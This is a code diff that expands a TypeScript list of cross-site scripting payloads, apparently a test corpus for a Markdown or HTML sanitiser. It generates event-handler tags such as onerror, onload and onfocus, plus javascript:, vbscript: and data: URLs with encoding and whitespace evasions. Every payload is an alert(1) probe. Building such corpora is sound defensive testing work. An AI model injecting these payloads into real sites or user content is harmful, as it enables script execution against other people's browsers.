@@ -1,5 +1,60 @@
-/** Ways to smuggle script into Markdown that someone else wrote. */
-export const xssPayloads: readonly string[] = [
+/** Elements that tell of an event without the reader's doing, with the attribute that has them tell. */
+const TELLING = [
+  ...[
+    'img src=x',
+    'svg',
+    'svg/onload=1',
+    'body',
+    'input autofocus',
+    'select autofocus',
+    'textarea autofocus',
+  ],
+  ...['details open', 'video src=x', 'audio src=x', 'marquee', 'iframe', 'object data=x', 'embed src=x'],
+  ...[
+    'style',
+    'link rel=stylesheet href=x',
+    'script src=x',
+    'image src=x',
+    'a href=# autofocus',
+    'dialog open',
+  ],
+  ...[
+    'div contenteditable autofocus tabindex=0',
+    'video><source',
+    'picture><img src=x',
+    'math',
+    'button popover',
+    'frameset',
+    'table background=x',
+    'input type=image src=x',
+  ],
+];
+const EVENTS = ['onerror', 'onload', 'onfocus'];
+
+/** Addresses that run a script, or would be read as text that does, in the ways they are written. */
+const RUNNING = [
+  ...['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
+  ...[
+    'java\nscript:alert(1)',
+    '\u0000javascript:alert(1)',
+    'javascript&#58;alert(1)',
+    'javascript&#x3A;alert(1)',
+  ],
+  ...['&#106;avascript:alert(1)', 'javascript:%61lert(1)', 'javascript://example.com/%0Aalert(1)'],
+  ...['data:text/html,<script>alert(1)</script>', 'vbscript:alert(1)', 'feed:javascript:alert(1)'],
+];
+
+const distinct = (texts: readonly string[]) => [...new Set(texts)];
+
+/** Ways to smuggle script into text, Markdown, markup or an address that someone else wrote. */
+export const xssPayloads: readonly string[] = distinct([
+  ...TELLING.flatMap(element => EVENTS.map(event => `<${element} ${event}=alert(1)>`)),
+  ...RUNNING.flatMap(address => [
+    address,
+    `[x](${address})`,
+    `<a href="${address}">x</a>`,
+    `<form action="${address}"><input type=submit autofocus></form>`,
+  ]),
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
   '<svg onload=alert(1)>',
@@ -73,4 +128,4 @@ export const xssPayloads: readonly string[] = [
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   'https://example.com/<script>alert(1)</script>',
   'javascript:alert(1)//https://example.com',
-];
+]);
